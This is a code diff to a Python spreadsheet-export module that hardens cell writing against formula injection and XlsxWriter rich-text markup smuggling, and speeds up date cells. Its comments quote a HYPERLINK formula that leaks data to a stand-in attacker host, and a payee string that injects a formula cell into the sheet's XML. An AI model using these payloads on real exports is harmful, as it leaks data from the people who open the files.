@@ -3,7 +3,9 @@ that none carries a live formula (CONTRACT "Personal data and hostile input").
 
 A spreadsheet takes a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
 return for a formula: a treasury payee written `=HYPERLINK("http://evil.example/?leak="&A1)`
-would send the sheet away on a click. Such text is written with a leading `'`.
+would send the sheet away on a click. Such text is written with a leading `'`, and so is
+text XlsxWriter would copy into the sheet's XML as rich-text markup (`<r>…</r>`): that
+markup could close its own cell and open a formula cell beside it (see `unmarked`).
 
 Cells are typed, so that only text is ever neutralised and numbers stay numbers:
 - `str` → text, neutralised;
@@ -58,6 +60,8 @@ DATE_FORMAT = "yyyy-mm-dd"
 DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
 BEIJING = timezone(timedelta(hours=8), "Asia/Shanghai")
 BOM = "\ufeff"
+# What XlsxWriter (worksheet._write_cell) takes for rich-text markup and writes raw.
+RICH_START, RICH_END = "<r>", "</r>"
 CHUNK_ROWS = 1_000
 CHUNK_BYTES = 256 * 1024
 # Excel's rules for a sheet name: at most 31 characters, none of []:*?/\ .
@@ -101,6 +105,14 @@ class Sheet:
 def neutralised(text: str) -> str:
     """The text as a spreadsheet will show it and never evaluate it."""
     return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+
+
+def unmarked(text: str) -> str:
+    """The text as an XLSX cell may carry it: XlsxWriter copies a string that begins
+    `<r>` and ends `</r>` into the sheet's XML unescaped, as rich text — so a payee named
+    `<r><t>x</t></r></is></c><c r="B2"><f>HYPERLINK(…)</f></c>…` would plant a live
+    formula beside its own cell. Such text gets the leading `'` formula text gets."""
+    return f"'{text}" if text.startswith(RICH_START) and text.endswith(RICH_END) else text
 
 
 def csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[bytes]:
@@ -185,7 +197,7 @@ def _write_sheet(worksheet: Any, sheet: Sheet, formats: _Formats) -> None:
     if sheet.header is not None:
         worksheet.freeze_panes(1, 0)
         for column, title in enumerate(sheet.header):
-            worksheet.write_string(0, column, neutralised(title), formats.header)
+            worksheet.write_string(0, column, unmarked(neutralised(title)), formats.header)
         first = 1
     for number, row in enumerate(sheet.rows, start=first):
         for column, value in enumerate(row):
@@ -196,7 +208,7 @@ def _write_cell(worksheet: Any, row: int, column: int, value: Cell, formats: _Fo
     if value is None:
         return
     if isinstance(value, str):
-        worksheet.write_string(row, column, neutralised(value))
+        worksheet.write_string(row, column, unmarked(neutralised(value)))
     elif isinstance(value, Decimal):
         if len(_finite(value).as_tuple().digits) > EXCEL_DIGITS:
             worksheet.write_string(row, column, format(value, "f"))
@@ -206,9 +218,24 @@ def _write_cell(worksheet: Any, row: int, column: int, value: Cell, formats: _Fo
         shown = beijing(value).replace(tzinfo=None)
         worksheet.write_datetime(row, column, shown, formats.datetime)
     elif isinstance(value, date):
-        worksheet.write_datetime(row, column, value, formats.date)
+        _write_date(worksheet, row, column, value, formats)
     else:
         worksheet.write_number(row, column, _integer(value))
+
+
+# Excel counts days from 1899-12-30 for every date after February 1900 (it keeps Lotus
+# 1-2-3's 29 February 1900); earlier dates go through XlsxWriter's own conversion.
+EXCEL_EPOCH = date(1899, 12, 30).toordinal()
+FIRST_PLAIN_SERIAL = date(1900, 3, 1)
+
+
+def _write_date(worksheet: Any, row: int, column: int, value: date, formats: _Formats) -> None:
+    """A date cell: its day number in a date format — what write_datetime writes, without
+    its per-cell conversion through datetime (a statement has a date on every line)."""
+    if value < FIRST_PLAIN_SERIAL:
+        worksheet.write_datetime(row, column, value, formats.date)
+    else:
+        worksheet.write_number(row, column, value.toordinal() - EXCEL_EPOCH, formats.date)
 
 
 def _finite(amount: Decimal) -> Decimal:
